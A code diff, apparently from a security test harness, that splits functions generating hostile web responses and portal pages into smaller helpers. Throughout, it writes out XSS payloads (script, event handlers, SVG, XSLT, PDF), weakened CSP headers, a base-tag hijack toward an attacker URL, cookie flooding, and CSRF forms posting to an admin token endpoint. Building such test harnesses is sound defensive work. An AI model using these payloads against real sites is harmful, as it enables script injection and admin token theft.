@@ -94,17 +94,13 @@ def hostile_api(mount: str) -> Iterator[HostileAPI]:
 
 def answers_of(api: HostileAPI) -> dict[str, Attack]:
     """Write answers that attack whoever opens them, or whatever page takes them in."""
+    return _marked_up(api) | _of_other_types(api) | _by_headers(api)
+
+
+def _marked_up(api: HostileAPI) -> dict[str, Attack]:
     run, evil = api.script, api.url
     page = f"<!doctype html><script>{run}</script>"
     inner = page.replace('"', "&quot;")
-    xslt = (
-        '<?xml version="1.0"?><xsl:stylesheet version="1.0" '
-        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>'
-        f"{run}</script></html></xsl:template></xsl:stylesheet>"
-    )
-    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
-    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></html>'
-    loose = "script-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin allow-forms"
     return {
         "script": Attack(page),
         "handler": Attack(f'<img src="x:" onerror="{run}"><body onload="{run}">'),
@@ -128,6 +124,20 @@ def answers_of(api: HostileAPI) -> dict[str, Attack]:
             '<button id="go">go</button></form>'
         ),
         "base": Attack(f'<base href="{evil}/"><script src="js"></script>'),
+    }
+
+
+def _of_other_types(api: HostileAPI) -> dict[str, Attack]:
+    run = api.script
+    page = f"<!doctype html><script>{run}</script>"
+    xslt = (
+        '<?xml version="1.0"?><xsl:stylesheet version="1.0" '
+        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>'
+        f"{run}</script></html></xsl:template></xsl:stylesheet>"
+    )
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
+    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{run}</script></html>'
+    return {
         "svg": Attack(svg, SVG),
         "xhtml": Attack(xhtml, "application/xhtml+xml"),
         "xml": Attack(xhtml, "application/xml"),
@@ -154,6 +164,17 @@ def answers_of(api: HostileAPI) -> dict[str, Attack]:
             f"{run})>>>>endobj trailer<</Root 1 0 R>>",
             "application/pdf",
         ),
+        "js": Attack(run, JS),
+        "worker": Attack(run, JS, (("service-worker-allowed", "/"),)),
+        "style": Attack("body{display:none!important}", "text/css"),
+    }
+
+
+def _by_headers(api: HostileAPI) -> dict[str, Attack]:
+    run = api.script
+    page = f"<!doctype html><script>{run}</script>"
+    loose = "script-src * 'unsafe-inline'; sandbox allow-scripts allow-same-origin allow-forms"
+    return {
         "inline-file": Attack(page, HTML, (("content-disposition", "inline; filename=a.html"),)),
         "loose-policy": Attack(page, HTML, (("content-security-policy", loose),)),
         "loose-policies": Attack(page, HTML, (("content-security-policy", f"{loose}, {loose}"),)),
@@ -166,20 +187,17 @@ def answers_of(api: HostileAPI) -> dict[str, Attack]:
         "cookie-spaced": Attack("", HTML, (("set-cookie", f" {COOKIE}"), ("set-cookie", "a=1"))),
         "cookies": Attack("", HTML, tuple(("set-cookie", f"c{n}=1; Path=/") for n in range(90))),
         "clear": Attack("", HTML, (("clear-site-data", '"*"'),)),
-        "js": Attack(run, JS),
-        "worker": Attack(run, JS, (("service-worker-allowed", "/"),)),
-        "style": Attack("body{display:none!important}", "text/css"),
         "to-admin": Attack("", HTML, (("location", "/p/admin/tokens"),), 307),
     }
 
 
 def pages_of(api: HostileAPI) -> dict[str, str]:
     """Write pages of the portal, by their paths, that go for the admin portal beside it."""
+    return _pages_that_run(api) | _pages_that_lead(api)
+
+
+def _pages_that_run(api: HostileAPI) -> dict[str, str]:
     run, js, evil = api.script, api.at("js"), api.url
-    inner = f"&lt;script&gt;{run}&lt;/script&gt;"
-    fields = '<input name="name" value="theirs"><input name="permission" value="rw">'
-    button = '<button id="go">go</button></form>'
-    post = '<form method="post" action="/p/admin/tokens"'
     return {
         "/h/inline": f"<script>{run}</script>",
         "/h/handler": f'<img src="x:" onerror="{run}">',
@@ -199,6 +217,16 @@ def pages_of(api: HostileAPI) -> dict[str, str]:
         '<script type="module">import "a"</script>',
         "/h/svg": f'<svg><script>{run}</script><use href="{api.at("svg")}#x"/></svg>',
         "/h/math": f'<math><mtext xlink:href="javascript:{run}" id="go">go</mtext></math>',
+    }
+
+
+def _pages_that_lead(api: HostileAPI) -> dict[str, str]:
+    run, js, evil = api.script, api.at("js"), api.url
+    inner = f"&lt;script&gt;{run}&lt;/script&gt;"
+    fields = '<input name="name" value="theirs"><input name="permission" value="rw">'
+    button = '<button id="go">go</button></form>'
+    post = '<form method="post" action="/p/admin/tokens"'
+    return {
         "/h/frame": f'<iframe src="{api.at("script")}"></iframe>',
         "/h/srcdoc": f'<iframe srcdoc="{inner}"></iframe>',
         "/h/object": f'<object data="{api.at("script")}"></object><embed src="{api.at("svg")}">',
